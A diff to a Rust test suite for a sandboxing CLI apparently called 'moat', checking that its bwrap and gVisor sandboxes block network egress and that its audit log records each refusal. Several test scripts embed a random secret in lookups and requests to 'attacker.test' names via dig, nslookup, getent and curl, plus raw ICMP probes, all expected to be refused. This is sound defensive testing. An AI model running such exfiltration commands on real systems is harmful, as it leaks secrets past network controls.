@@ -11,6 +11,7 @@
 
 mod netkit;
 
+use netkit::resolver::TestResolver;
 use netkit::*;
 
 /// Statuses are checked per case; this is the common "refused by policy".
@@ -18,6 +19,35 @@ const FORBIDDEN: u64 = 403;
 
 fn q(s: &str) -> String {
     serde_json::to_string(s).unwrap()
+}
+
+/// A `ping` of a host address from a sandbox of the `moat` CLI failed for
+/// its precise reason. Under bwrap ping cannot open a socket at all (raw
+/// sockets are refused by the filter, ICMP datagram sockets by the kernel's
+/// default `ping_group_range` in the sandbox's namespace): the network's own
+/// answer is tested in N10's last part, where ICMP sockets are switched on.
+/// gVisor without a door has its own network stack, whose ICMP sockets meet
+/// no route; with a door it uses the door namespace's, where it offers no
+/// ICMP socket.
+fn ping_refused(pr: &Probes, name: &str, b: Backend, door: bool) {
+    let out = pr.out(name);
+    assert_eq!(pr.code(name), 2, "{name}: {out}");
+    let why: &[&str] = match (b, door) {
+        (Backend::Bwrap, _) => &["socket: Operation not permitted"],
+        (Backend::Gvisor, false) => &["No route to host", "Network is unreachable"],
+        (Backend::Gvisor, true) => &["socket: Address family not supported"],
+    };
+    assert!(why.iter().any(|w| out.contains(w)), "{name}: {out}");
+}
+
+/// The errors of an ICMP datagram socket towards a host address, as for
+/// `ping_refused`.
+fn icmp_refusals(b: Backend, door: bool) -> &'static [&'static str] {
+    match (b, door) {
+        (Backend::Bwrap, _) => &["EACCES"],
+        (Backend::Gvisor, false) => &["EHOSTUNREACH", "ENETUNREACH"],
+        (Backend::Gvisor, true) => &["EAFNOSUPPORT"],
+    }
 }
 
 // ---------------------------------------------------------------------------
@@ -31,6 +61,7 @@ fn n1_no_allowlist(b: Backend) {
     let sb = Sandbox::new(b, "n1");
     let (p, u) = (up.port, udp.port);
     let pattern = icmp.ping_pattern();
+    require_host_addrs();
     let addrs = local_addrs();
     let mut script = String::from("t env sh -c 'env | grep -i proxy; true'\n");
     for (i, ip) in addrs.iter().enumerate() {
@@ -69,7 +100,7 @@ fn n1_no_allowlist(b: Backend) {
             );
             pr.failed(&format!("ncudp{i}"), Some(1), "");
             // A ping of one's own loopback is no egress; the host's addresses are.
-            pr.failed(&format!("ping{i}"), Some(2), "");
+            ping_refused(&pr, &format!("ping{i}"), b, false);
         }
     }
     pr.failed("getent", Some(2), "");
@@ -495,6 +526,7 @@ fn n4_unset_proxy_and_dial_directly(b: Backend) {
     let mut sb = Sandbox::new(b, "n4");
     sb.allow(&format!("web.test:{p}"))
         .pin("web.test", "127.0.0.1");
+    require_host_addrs();
     let noproxy =
         "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u NO_PROXY -u no_proxy";
     let mut script = format!(
@@ -668,60 +700,90 @@ fn n5_dns_exfiltration(b: Backend) {
     let u = udp.port;
     let secret = format!("s{}", random_hex(12));
     let mut sb = Sandbox::new(b, "n5");
-    sb.allow(&format!("web.test:{p}"))
+    // The door's own lookups (getaddrinfo on the host) go to a resolver of
+    // the test's: it must hear about the allowed, unpinned name and never
+    // about a secret one.
+    let dns = TestResolver::start(&sb.dir, &[("ok.test", "127.0.0.1".parse().unwrap())]);
+    sb.resolver(&dns)
+        .allow(&format!("web.test:{p}"))
+        .allow(&format!("ok.test:{p}"))
         .pin("web.test", "127.0.0.1");
+    for tool in ["/usr/bin/dig", "/usr/bin/nslookup"] {
+        assert!(
+            std::path::Path::new(tool).exists(),
+            "{tool} is missing: install dnsutils (scripts/setup does)"
+        );
+    }
     let mut script = format!(
         "t getent getent hosts {secret}.attacker.test\n\
          t getent_ahosts getent ahosts {secret}-a.attacker.test\n\
-         t curl curl -sS -m 10 --noproxy '*' http://{secret}-c.attacker.test/\n"
+         t curl curl -sS -m 10 --noproxy '*' http://{secret}-c.attacker.test/\n\
+         t proxy_ok curl -sS -m 10 -w ' %{{http_code}}' http://ok.test:{p}/n5/ok\n\
+         t proxy_abs curl -sS -m 10 -w ' %{{http_code}}' http://{secret}-p.attacker.test/\n\
+         t proxy_abs_port curl -sS -m 10 -w ' %{{http_code}}' http://{secret}-o.attacker.test:{p}/\n\
+         t proxy_connect curl -sS -m 10 https://{secret}-q.attacker.test/\n\
+         t dig dig +tries=1 +time=2 {secret}-d.attacker.test TXT\n\
+         t dig_tcp dig +tcp +tries=1 +time=2 {secret}-t.attacker.test A\n\
+         t nslookup nslookup -timeout=2 {secret}-n.attacker.test\n\
+         t dig_ok dig +tries=1 +time=2 +short web.test A\n\
+         t dig_ok_txt dig +tries=1 +time=2 web.test TXT\n\
+         t dig_resolver dig +tries=1 +time=2 @{} {secret}-r.attacker.test\n\
+         t dig_resolver_tcp dig +tcp +tries=1 +time=2 @{} {secret}-s.attacker.test\n",
+        dns.addr, dns.addr
     );
-    let have_dig = std::path::Path::new("/usr/bin/dig").exists();
-    if have_dig {
+    for (i, ip) in local_addrs().iter().enumerate() {
         script += &format!(
-            "t dig dig +tries=1 +time=2 {secret}-d.attacker.test TXT\n\
-             t dig_tcp dig +tcp +tries=1 +time=2 {secret}-t.attacker.test A\n\
-             t nslookup nslookup -timeout=2 {secret}-n.attacker.test\n\
-             t dig_ok dig +tries=1 +time=2 +short web.test A\n\
-             t dig_ok_txt dig +tries=1 +time=2 web.test TXT\n"
+            "t dig_direct{i} dig +tries=1 +time=2 @{ip} -p {u} {secret}-x{i}.attacker.test\n\
+             t dig_direct_tcp{i} dig +tcp +tries=1 +time=2 @{ip} -p {p} {secret}-y{i}.attacker.test\n"
         );
-        for (i, ip) in local_addrs().iter().enumerate() {
-            script += &format!(
-                "t dig_direct{i} dig +tries=1 +time=2 @{ip} -p {u} {secret}-x{i}.attacker.test\n\
-                 t dig_direct_tcp{i} dig +tcp +tries=1 +time=2 @{ip} -p {p} {secret}-y{i}.attacker.test\n"
-            );
-        }
     }
     let pr = sb.sh(&script).probes();
     pr.failed("getent", Some(2), "");
     pr.failed("getent_ahosts", Some(2), "");
     pr.failed("curl", Some(6), "Could not resolve host");
-    if have_dig {
-        pr.succeeded("dig", "status: REFUSED");
-        pr.succeeded("dig_tcp", "status: REFUSED");
-        pr.failed("nslookup", None, "REFUSED");
-        pr.succeeded("dig_ok", "127.100.0.");
-        pr.succeeded("dig_ok_txt", "status: NOERROR");
-        assert!(
-            pr.out("dig_ok_txt").contains("ANSWER: 0"),
-            "{}",
-            pr.out("dig_ok_txt")
+    // The door looked ok.test up with the test's resolver (nobody else knows
+    // it) and refused the loopback address it got.
+    pr.succeeded("proxy_ok", "resolves to 127.0.0.1");
+    assert!(
+        pr.out("proxy_ok").ends_with(" 403"),
+        "{}",
+        pr.out("proxy_ok")
+    );
+    for k in ["proxy_abs", "proxy_abs_port"] {
+        assert_eq!(pr.code(k), 0, "{k}: {}", pr.out(k));
+        assert!(pr.out(k).ends_with(" 403"), "{k}: {}", pr.out(k));
+    }
+    pr.failed("proxy_connect", Some(56), "403");
+    pr.succeeded("dig", "status: REFUSED");
+    pr.succeeded("dig_tcp", "status: REFUSED");
+    pr.failed("nslookup", None, "REFUSED");
+    pr.succeeded("dig_ok", "127.100.0.");
+    pr.succeeded("dig_ok_txt", "status: NOERROR");
+    assert!(
+        pr.out("dig_ok_txt").contains("ANSWER: 0"),
+        "{}",
+        pr.out("dig_ok_txt")
+    );
+    for k in ["dig_resolver", "dig_resolver_tcp"] {
+        assert_ne!(pr.code(k), 0, "{k}: {}", pr.out(k));
+        assert!(!pr.out(k).contains("ANSWER SECTION"), "{k}: {}", pr.out(k));
+    }
+    for (i, ip) in local_addrs().iter().enumerate() {
+        // No answer from anywhere but the stub: refused or unreachable.
+        assert_ne!(
+            pr.code(&format!("dig_direct{i}")),
+            0,
+            "{ip}: {}",
+            pr.out(&format!("dig_direct{i}"))
         );
-        for (i, ip) in local_addrs().iter().enumerate() {
-            // No answer from anywhere but the stub: refused or unreachable.
-            assert_ne!(
-                pr.code(&format!("dig_direct{i}")),
-                0,
-                "{ip}: {}",
-                pr.out(&format!("dig_direct{i}"))
-            );
-            assert!(!pr.out(&format!("dig_direct{i}")).contains("ANSWER SECTION"));
-            assert_ne!(pr.code(&format!("dig_direct_tcp{i}")), 0);
-        }
+        assert!(!pr.out(&format!("dig_direct{i}")).contains("ANSWER SECTION"));
+        assert_ne!(pr.code(&format!("dig_direct_tcp{i}")), 0);
     }
     let r = sb.python(
         &(format!(
-            "S = {}\nU = {u}\nADDRS = {}\n",
+            "S = {}\nU = {u}\nR = {}\nADDRS = {}\n",
             q(&secret),
+            q(&dns.addr.to_string()),
             serde_json::to_string(&local_addrs()).unwrap()
         ) + r#"
 attempt("gai", resolve4, S + "-g.attacker.test")
@@ -733,6 +795,7 @@ attempt("aaaa", dns_query, S + "-w.attacker.test", 28)
 attempt("multi", dns_query, "web.test", 1, False, ("127.0.0.1", 53), 3, (S + "-m.attacker.test",))
 # a label added in front of an allowed exact name
 attempt("sub", dns_query, S + ".web.test")
+attempt("resolver", dns_query, S + "-k.attacker.test", 1, False, (R, 53), 2)
 for a in ADDRS:
     if ":" not in a:
         attempt("direct " + a, dns_query, S + "-z.attacker.test", 1, False, (a, U), 2)
@@ -763,8 +826,25 @@ for a in ADDRS:
         );
     }
 
+    py_failed(
+        &r,
+        "resolver",
+        &["ECONNREFUSED", "ENETUNREACH", "TimeoutError", "timeout"],
+    );
+
     udp.assert_untouched("N5");
     up.assert_untouched("N5");
+    let asked = dns.asked();
+    assert!(
+        asked.iter().any(|n| n == "ok.test"),
+        "the door never used the test's resolver: {asked:?}"
+    );
+    for n in &asked {
+        assert!(
+            !n.contains(&secret) && !n.contains("attacker") && !n.starts_with('<'),
+            "the host-side resolver was asked {n:?} (all: {asked:?})"
+        );
+    }
     let audit = sb.audit();
     audit.assert_well_formed();
     audit.assert_denied("dns", &format!("{secret}.attacker.test"), "never forwards");
@@ -778,10 +858,22 @@ for a in ADDRS:
         &format!("{secret}-v.attacker.test"),
         "never forwards",
     );
-    // Only the stub ever saw the secret: no connection record names it.
+    // The names sent through the proxy were refused by name, never resolved.
+    for (kind, name) in [("http", "p"), ("http", "o"), ("connect", "q")] {
+        audit.assert_denied(
+            kind,
+            &format!("{secret}-{name}.attacker.test"),
+            "is not on the allowlist",
+        );
+    }
+    // Every record naming the secret is a refusal with no address: the stub's
+    // or the proxy's, never a connection.
     for r in &audit.records {
         if r["host"].as_str().is_some_and(|h| h.contains(&secret)) {
-            assert_eq!(r["kind"], "dns", "{r}");
+            assert!(
+                ["dns", "http", "connect"].contains(&r["kind"].as_str().unwrap_or("")),
+                "{r}"
+            );
             assert_eq!(r["verdict"], "denied", "{r}");
             assert!(r["address"].is_null(), "{r}");
         }
@@ -1390,6 +1482,7 @@ fn n10_udp_quic_icmp(b: Backend) {
     let up = Upstream::loopback();
     let u = udp.port;
     let pattern = icmp.ping_pattern();
+    let host = require_host_addrs();
     for with_door in [false, true] {
         let mut sb = Sandbox::new(b, &format!("n10-{with_door}"));
         if with_door {
@@ -1410,9 +1503,8 @@ fn n10_udp_quic_icmp(b: Backend) {
         let pr = sb.sh(&script).probes();
         for (i, ip) in local_addrs().iter().enumerate() {
             if !ip.is_loopback() {
-                pr.failed(&format!("ping{i}"), Some(2), "");
+                ping_refused(&pr, &format!("ping{i}"), b, with_door);
                 pr.failed(&format!("ncudp{i}"), Some(1), "");
-                let _ = ip;
             }
         }
         let code = format!(
@@ -1470,19 +1562,7 @@ attempt("packet", raw_socket, socket.AF_PACKET, 0)
             } else {
                 py_failed(&r, &format!("udp {a}"), &["ENETUNREACH", "EHOSTUNREACH"]);
                 py_failed(&r, &format!("quic {a}"), &["ENETUNREACH", "EHOSTUNREACH"]);
-                py_failed(
-                    &r,
-                    &format!("icmp {a}"),
-                    &[
-                        "EACCES",
-                        "EPERM",
-                        "EAFNOSUPPORT",
-                        "ENETUNREACH",
-                        "EHOSTUNREACH",
-                        "TimeoutError",
-                        "timeout",
-                    ],
-                );
+                py_failed(&r, &format!("icmp {a}"), icmp_refusals(b, with_door));
             }
         }
         if with_door {
@@ -1510,6 +1590,83 @@ attempt("packet", raw_socket, socket.AF_PACKET, 0)
             );
         }
     }
+
+    // ICMP for real: a sandbox in a door namespace of the test's own, where
+    // ICMP datagram sockets are switched on for every group, so an echo
+    // request meets nothing but the namespace's lack of routes.
+    let outside = Netns::new(&[], &[]);
+    let mut sb = LibSandbox::start(
+        b,
+        "n10-icmp",
+        &outside,
+        LibDoorSpec {
+            allow: &["web.test"],
+            pins: &[("web.test", "127.0.0.1")],
+            names: &[],
+        },
+    );
+    sb.door_ns
+        .run(|| std::fs::write("/proc/sys/net/ipv4/ping_group_range", "0 2147483647"))
+        .expect("switching ICMP sockets on in the sandbox's namespace");
+    let mut script = String::from("t ping_lo ping -c 1 -W 2 127.0.0.1\n");
+    for (i, ip) in host.iter().enumerate() {
+        script += &format!("t ping{i} ping -c 1 -W 2 -p {pattern} {ip}\n");
+    }
+    let pr = sb.sh(&script).probes();
+    if b == Backend::Gvisor {
+        // gVisor in a door namespace offers no ICMP socket at all (its own
+        // network stack's ICMP meets no route: N1, and the part above).
+        ping_refused(&pr, "ping_lo", b, true);
+        for i in 0..host.len() {
+            ping_refused(&pr, &format!("ping{i}"), b, true);
+        }
+    } else {
+        // The control: ping works, and its own loopback answers.
+        pr.succeeded("ping_lo", "1 received");
+        for i in 0..host.len() {
+            pr.failed(
+                &format!("ping{i}"),
+                Some(2),
+                "connect: Network is unreachable",
+            );
+        }
+    }
+    let r = sb.python(
+        &(format!("HOST = {}\n", serde_json::to_string(&host).unwrap())
+            + r#"
+def icmp_dgram(dst, fam):
+    proto = socket.IPPROTO_ICMP if fam == socket.AF_INET else socket.IPPROTO_ICMPV6
+    s = socket.socket(fam, socket.SOCK_DGRAM, proto)
+    s.settimeout(2)
+    try:
+        kind = 8 if fam == socket.AF_INET else 128
+        s.sendto(bytes([kind, 0, 0, 0, 0, 1, 0, 1]) + b"n10-icmp", (dst, 0))
+        return s.recv(1024).hex()
+    finally:
+        s.close()
+attempt("icmp lo", icmp_dgram, "127.0.0.1", socket.AF_INET)
+for a in HOST:
+    attempt("icmp " + a, icmp_dgram, a, socket.AF_INET6 if ":" in a else socket.AF_INET)
+"#),
+    );
+    if b == Backend::Gvisor {
+        py_failed(&r, "icmp lo", &["EAFNOSUPPORT"]);
+    } else {
+        let reply = py_ok(&r, "icmp lo");
+        assert!(
+            reply.as_str().is_some_and(|h| h.starts_with("00")),
+            "not an echo reply: {reply}"
+        );
+    }
+    for a in &host {
+        let want: &[&str] = match b {
+            Backend::Bwrap => &["ENETUNREACH"],
+            Backend::Gvisor => &["EAFNOSUPPORT"],
+        };
+        py_failed(&r, &format!("icmp {a}"), want);
+    }
+    drop(sb);
+
     udp.assert_untouched("N10");
     if let Some(q) = &quic {
         q.assert_untouched("N10 QUIC");
